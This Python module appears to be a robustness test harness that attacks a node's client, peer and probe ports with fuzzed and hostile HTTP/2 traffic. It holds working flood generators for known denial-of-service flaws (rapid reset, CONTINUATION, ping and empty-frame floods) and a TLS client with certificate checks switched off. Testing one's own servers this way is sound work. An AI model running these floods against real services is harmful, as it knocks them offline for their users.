"""Send hostile frames to the ports of a node: random, mutated, and floods of valid frames.

The attacker has no certificate of a node. On the client port it completes TLS, which needs no
credentials, and it has a token for the calls whose messages are invalid.
"""

from __future__ import annotations

import socket
import ssl
import struct
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from itertools import islice
from random import Random

from taskraft_replication.peers.frame_connection import ENCRYPTED, MAGIC, PLAIN

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    range(10)
)
END_STREAM, END_HEADERS = 1, 4
ACK = 1
CANCEL = (8).to_bytes(4, "big")
STREAMS_MAX = 1 << 30
BATCH = 50
"""Frames in one write."""
FRAMES_PER_CONNECTION_MAX = 2_000
WRITE_SECONDS_MAX = 2.0
"""A node that reads no more has defended itself."""
METHODS = ("PutTasks", "TakeTasks", "SettleTasks", "Subscribe", "ExecuteBatch", "Unknown")

Frames = Iterator[bytes]


@dataclass(frozen=True)
class Target:
    """The ports of a node, and a token that it accepts."""

    client: str
    peer: str
    http: str
    token: str


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return an HTTP/2 frame."""
    return struct.pack(">IBI", len(payload) << 8 | kind, flags, stream) + payload


def header(name: str, value: str) -> bytes:
    """Return a header in HPACK, as a literal that is not indexed."""
    assert max(len(name), len(value)) < 127
    return bytes((0, len(name))) + name.encode() + bytes((len(value),)) + value.encode()


def call_headers(method: str, token: str = "") -> bytes:
    """Return the headers of a call."""
    fields = {
        ":method": "POST",
        ":scheme": "https",
        ":path": f"/taskraft.v1.TaskService/{method}",
        ":authority": "localhost",
        "te": "trailers",
        "content-type": "application/grpc",
    }
    if token:
        fields["authorization"] = f"Bearer {token}"
    return b"".join(header(name, value) for name, value in fields.items())


# ---------------------------------------------------------------------- frames for the client port


def random_frames(rng: Random, _token: str) -> Frames:
    """Frames of any type with any content."""
    while True:
        content = rng.randbytes(rng.randrange(64))
        yield frame(rng.randrange(16), rng.randrange(256), rng.getrandbits(31), content)


def mutated_frames(rng: Random, token: str) -> Frames:
    """Valid calls in which one byte of a hundred frames is wrong."""
    for number, one in enumerate(invalid_messages(rng, token)):
        if number % 100 == 99:
            place = rng.randrange(len(one))
            yield one[:place] + bytes((rng.randrange(256),)) + one[place + 1 :]
        else:
            yield one


def invalid_messages(rng: Random, token: str) -> Frames:
    """Valid calls with credentials whose messages are not messages of the contract."""
    for stream in range(1, STREAMS_MAX, 2):
        yield frame(HEADERS, END_HEADERS, stream, call_headers(rng.choice(METHODS), token))
        content = rng.randbytes(rng.randrange(200))
        message = struct.pack(">BI", 0, len(content)) + content
        yield frame(DATA, END_STREAM, stream, message)


def rapid_resets(_rng: Random, token: str) -> Frames:
    """Calls that are cancelled at once (CVE-2023-44487)."""
    headers = call_headers("TakeTasks", token)
    for stream in range(1, STREAMS_MAX, 2):
        yield frame(HEADERS, END_HEADERS, stream, headers)
        yield frame(RST_STREAM, 0, stream, CANCEL)


def continuations(rng: Random, _token: str) -> Frames:
    """Headers without end (CVE-2024-27316)."""
    yield frame(HEADERS, 0, 1, call_headers("PutTasks"))
    size = rng.choice((0, 1, 8))
    while True:
        yield frame(CONTINUATION, 0, 1, header("x-filler", "y" * 100) * size)


def huge_settings(rng: Random, _token: str) -> Frames:
    """Settings of many values, each of which must be acknowledged."""
    while True:
        values = (
            (1, rng.getrandbits(32)),
            (3, rng.getrandbits(32)),
            (4, rng.getrandbits(31)),
            (5, rng.randrange(1 << 14, 1 << 24)),
            (6, rng.getrandbits(32)),
            (rng.getrandbits(16) | 64, rng.getrandbits(32)),
        )
        yield frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *one) for one in values) * 50)


def pings(rng: Random, _token: str) -> Frames:
    """Pings, each of which must be answered (CVE-2019-9512)."""
    while True:
        yield frame(PING, 0, 0, rng.randbytes(8))


def empty_frames(rng: Random, token: str) -> Frames:
    """An open call with frames that carry nothing (CVE-2019-9518)."""
    yield frame(HEADERS, END_HEADERS, 1, call_headers("Subscribe", token))
    while True:
        yield rng.choice(
            (
                frame(DATA, 0, 1),
                frame(PRIORITY, 0, 1, rng.randbytes(5)),
                frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"),
            )
        )


CLIENT_FRAMES: tuple[Callable[[Random, str], Frames], ...] = (
    random_frames,
    mutated_frames,
    invalid_messages,
    rapid_resets,
    continuations,
    huge_settings,
    pings,
    empty_frames,
)

# ---------------------------------------------------------------------- frames for the other ports

TLS_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"


def peer_frames(rng: Random, _token: str) -> Frames:
    """An opening of the peer port, and then frames that are random or mutated."""
    openings = (MAGIC + PLAIN, MAGIC + ENCRYPTED, PREFACE + frame(SETTINGS, 0, 0), TLS_HELLO, b"")
    yield rng.choice(openings) + rng.randbytes(rng.randrange(40))
    while True:
        content = rng.randbytes(rng.randrange(200))
        yield struct.pack(">I", rng.choice((len(content), rng.getrandbits(32)))) + content


def http_requests(rng: Random, _token: str) -> Frames:
    """Requests to the port of probes: mutated, without end, or of random bytes."""
    valid = b"GET /readyz HTTP/1.1\r\nHost: x\r\n"
    while True:
        place = rng.randrange(len(valid))
        yield rng.choice(
            (
                valid[:place] + rng.randbytes(3) + valid[place:],
                b"X-Filler: " + b"y" * rng.randrange(300) + b"\r\n",
                rng.randbytes(rng.randrange(100)),
            )
        )


# ------------------------------------------------------------------------- connections


def connect(address: str) -> socket.socket:
    """Return a connection whose writes take at most ``WRITE_SECONDS_MAX``."""
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), WRITE_SECONDS_MAX)


def connect_with_tls(address: str) -> socket.socket:
    """Return a connection for HTTP/2, on which the preface is sent."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    plain = connect(address)
    try:
        link = context.wrap_socket(plain)
    except OSError:
        plain.close()
        raise
    link.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return link


def drain(link: socket.socket) -> None:
    """Read what has arrived, so that the node can write."""
    link.setblocking(False)
    # BlockingIOError, ssl.SSLWantReadError: nothing more has arrived.
    with suppress(BlockingIOError, ssl.SSLWantReadError):
        while link.recv(1 << 16):
            pass
    link.settimeout(WRITE_SECONDS_MAX)


def write(link: socket.socket, frames: Frames, count: int, *, reads: bool) -> int:
    """Write frames until the node closes the connection; return the number of written frames."""
    written = 0
    with suppress(OSError):
        while written < count:
            batch = list(islice(frames, BATCH))
            link.sendall(b"".join(batch))
            written += len(batch)
            if reads:
                drain(link)
    return written


def attack(target: Target, seed: int, frames: int) -> Counter[str]:
    """Write a number of frames, on one connection after another.

    Returns:
        The number of written frames of each kind, and of connections, also failed ones.
    """
    rng = Random(seed)
    written: Counter[str] = Counter()
    left = frames
    while left > 0:
        port = rng.choices(("client", "peer", "http"), (8, 1, 1))[0]
        if port == "client":
            source = rng.choice(CLIENT_FRAMES)
        else:
            source = peer_frames if port == "peer" else http_requests
        open_one = connect_with_tls if port == "client" else connect
        try:
            link = open_one(getattr(target, port))
        except OSError:
            written["failed connections"] += 1
            continue  # the port has too many connections at this moment
        written["connections"] += 1
        with link:
            count = write(
                link,
                source(rng, target.token),
                min(FRAMES_PER_CONNECTION_MAX, left),
                reads=rng.random() < 7 / 8,
            )
        left -= count
        written[source.__name__] += count
    return written


# ------------------------------------------------------------------------- half-sent messages


def half_send(link: socket.socket, token: str, announced: int, sent_max: int) -> int:
    """Begin a call, and send the beginning of its message as far as flow control permits.

    Args:
        link: a connection for HTTP/2.
        token: the caller's token; empty: the call has no token.
        announced: length that the message claims to have, in bytes.
        sent_max: maximum number of bytes to send.

    Returns:
        Number of sent bytes; fewer than ``sent_max`` if the node ended the call or opened its flow
        control window no further for ``WRITE_SECONDS_MAX``.
    """
    link.sendall(frame(HEADERS, END_HEADERS, 1, call_headers("PutTasks", token)))
    # The settings of the node change the window of a stream, but not that of the connection.
    windows = {0: 65_535, 1: 65_535}
    initial, received, sent = 65_535, b"", 0
    content = struct.pack(">BI", 0, announced)
    with suppress(OSError):
        while sent < sent_max:
            room = min(*windows.values(), 1 << 14, sent_max - sent)
            if room > 0:
                part = (content + bytes(room))[:room]
                content = b""
                link.sendall(frame(DATA, 0, 1, part))
                sent += room
                windows = {stream: window - room for stream, window in windows.items()}
                continue
            received += link.recv(1 << 16)
            while len(received) >= 9 and len(received) >= 9 + _length(received):
                kind, stream = received[3], int.from_bytes(received[5:9], "big")
                payload = received[9 : 9 + _length(received)]
                received = received[9 + len(payload) :]
                if kind == WINDOW_UPDATE:
                    windows[stream] += int.from_bytes(payload, "big")
                elif kind == SETTINGS:
                    for key, value in struct.iter_unpack(">HI", payload):
                        if key == 4:
                            windows[1] += value - initial
                            initial = value
                elif kind == RST_STREAM:
                    return sent
    return sent


def _length(frames: bytes) -> int:
    """Return the length of the payload of the first frame."""
    return int.from_bytes(frames[:3], "big")
